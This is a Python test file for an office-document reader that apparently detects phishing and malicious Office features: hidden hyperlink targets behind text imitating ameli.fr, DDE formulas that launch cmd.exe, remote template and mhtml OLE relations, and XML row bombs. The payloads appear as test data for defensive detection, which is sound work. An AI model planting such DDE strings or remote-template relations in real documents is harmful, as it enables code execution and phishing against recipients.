"""The words of a part are read in order, each link's target behind its words."""

import time

import pytest

from beffroi.contact.readers.documents.ooxml import Relations, read_part, read_relations
from beffroi.contact.readers.documents.running_text import RunningText
from beffroi.contact.readers.documents.xml_walk import EnoughError

from .made_office import relations

SPACES = 'xmlns:w="http://w" xmlns:r="http://r" xmlns:a="http://a"'
EVIL = "https://evil.example/x"


def _read(body: str, **links: str) -> tuple[str, tuple[str, ...]]:
    text = RunningText()
    whole, fields = read_part(f"<w:x {SPACES}>{body}</w:x>".encode(), Relations(links, ()), text)
    assert whole
    return text.text, fields


def _run(words: str) -> str:
    return f"<w:r><w:t>{words}</w:t></w:r>"


@pytest.mark.parametrize(
    ("body", "text"),
    [
        pytest.param(
            f"<w:p>{_run('Votre ')}{_run('carte')}</w:p><w:p>{_run('Vitale')}</w:p>", "Votre carte\nVitale", id="runs"
        ),
        pytest.param(
            f'<w:p><w:hyperlink r:id="k">{_run("ameli.fr")}</w:hyperlink></w:p>', f"ameli.fr <{EVIL}>", id="link"
        ),
        pytest.param(
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPER</w:instrText></w:r>'
            f'<w:r><w:instrText>LINK "{EVIL}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'{_run("ameli.fr")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
            f"ameli.fr <{EVIL}>",
            id="field",
        ),
        pytest.param(
            f"<w:fldSimple w:instr='HYPERLINK {EVIL}'>{_run('ici')}</w:fldSimple>", f"ici <{EVIL}>", id="simple field"
        ),
        pytest.param(
            '<a:r><a:rPr><a:hlinkClick r:id="k"/></a:rPr><a:t>ici</a:t></a:r><a:r><a:t>, vite</a:t></a:r>',
            f"ici <{EVIL}>, vite",
            id="link of a slide",
        ),
        pytest.param('<a:cNvPr><a:hlinkClick r:id="k"/></a:cNvPr>', f"<{EVIL}>", id="picture that is a link"),
        pytest.param(f'<f>HYPERLINK("{EVIL}","ameli.fr")</f>', f"ameli.fr <{EVIL}>", id="formula"),
        pytest.param('<hyperlink ref="A1" r:id="k" display="ameli.fr"/>', f"ameli.fr <{EVIL}>", id="link of a cell"),
        pytest.param("<si><t>a</t></si><si><t>b</t></si>", f"a\nb\n<{EVIL}>", id="link nothing shows"),
        pytest.param(_run("a") + "<w:delText>b</w:delText><v>12</v>", "a", id="what is not shown"),
    ],
)
def test_words_stand_as_shown_and_targets_behind_them(body: str, text: str) -> None:
    """Who reads the words must see where they lead."""
    of_a_relation = "r:id" in body or ("LINK" not in body and text.endswith(">"))

    assert _read(body, **({"k": EVIL} if of_a_relation else {}))[0] == text


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        pytest.param("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType='end'/>", 1, id="DDE"),
        pytest.param("<f>cmd|' /C calc'!A0</f>", 1, id="DDE of a table"),
        pytest.param("<f>=-MSEXCEL|'\\..\\cmd.exe /c x'!''</f>", 1, id="DDE of a table, disguised"),
        pytest.param("<f>SUM(A1:B2)</f><f>IF(A1='x|y',1)</f>", 0, id="formulas"),
        pytest.param("<w:instrText>PAGE \\* MERGEFORMAT</w:instrText><w:fldChar w:fldCharType='end'/>", 0, id="page"),
    ],
)
def test_instructions_that_start_programs_are_told(body: str, fields: int) -> None:
    """Such a document needs no macros."""
    assert len(_read(body)[1]) == fields


def test_relations_tell_links_from_what_is_fetched() -> None:
    """A template from the net brings its macros along; one on a company's disk is everyday."""
    found = read_relations(
        relations(
            ("a", "hyperlink", EVIL),
            ("b", "attachedTemplate", "https://evil.example/x.dotm"),
            ("c", "attachedTemplate", "file:///C:/Normal.dotm"),
            ("d", "oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"),
            ("e", "image", "https://evil.example/pixel.png"),
        )
    )

    assert found.links == {"a": EVIL}
    assert [sort for sort, _ in found.fetched] == ["attachedTemplate", "oleObject"]
    assert read_relations(relations(("a", "hyperlink", EVIL), mode="Internal")).links == {}


def test_a_million_rows_are_read_as_far_as_they_are_kept() -> None:
    """Tables of that size exist, and bombs of that kind."""
    rows = b"<x>" + b"<row><c><is><t>Bonjour</t></is></c></row>" * 400_000 + b"</x>"
    begins = time.process_time()

    with pytest.raises(EnoughError):
        read_part(rows, Relations({}, ()), RunningText())

    assert time.process_time() - begins < 10
    assert not read_part(b"<x><t>a</t>", Relations({}, ()), RunningText())[0]
